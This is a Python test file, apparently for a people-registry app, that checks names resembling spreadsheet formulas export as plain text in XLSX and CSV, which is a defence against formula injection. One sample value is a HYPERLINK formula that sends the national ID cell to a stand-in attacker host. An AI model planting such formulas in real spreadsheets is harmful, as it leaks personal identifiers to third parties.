"""A name typed as a spreadsheet formula is exported as text: a string cell in XLSX (not a formula)
and an apostrophe-prefixed value in CSV, in the people list beside the national ID column."""

import csv
import io

from openpyxl import load_workbook

from base.sheets import csv_cell, is_formula_like

EVIL = '=HYPERLINK("http://attacker.example/?id="&F2,"Bấm vào đây")'
# (a leading tab or CR cannot reach a record: names are stripped on the way in; csv_cell covers them)
NAMES = [EVIL, "+84 90 123 4567", "-2+3", "@SUM(1,1)", "Nguyễn Văn An"]


def _export(arena, fmt):
    r = arena.get(f"/api/people/?format={fmt}", role="manager")
    assert r.status_code == 200, r.text
    return r.content


def test_formula_like_names_are_text_in_xlsx_and_csv_exports(arena):
    for i, name in enumerate(NAMES):
        person = {"full_name": name, "birth_date": "2004-05-06", "national_id": f"0792040012{i:02d}"}
        arena.ok(arena.post("/api/people/", person, role="manager"))

    sheet = load_workbook(io.BytesIO(_export(arena, "xlsx"))).active
    rows = list(sheet.iter_rows())
    name_col = [c.value for c in rows[0]].index("Họ và tên")
    names = {row[name_col].value: row[name_col] for row in rows[1:]}
    assert set(names) == set(NAMES)
    for name, cell in names.items():
        assert cell.data_type == "s", (name, cell.data_type)  # "f" would be a live formula
    assert names[EVIL].quotePrefix

    text = _export(arena, "csv").decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text)))
    col = table[0].index("Họ và tên")
    exported = {row[col] for row in table[1:]}
    assert "'" + EVIL in exported
    assert exported == {("'" + n if is_formula_like(n) else n) for n in NAMES}
    assert not any(is_formula_like(v) for row in table for v in row)


def test_numbers_and_plain_text_pass_untouched():
    assert csv_cell(-5) == -5
    assert csv_cell(None) == ""
    assert csv_cell("Trần Minh Khang") == "Trần Minh Khang"
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("\t=1+1") == "'\t=1+1"
    assert csv_cell("\r=1+1") == "'\r=1+1"
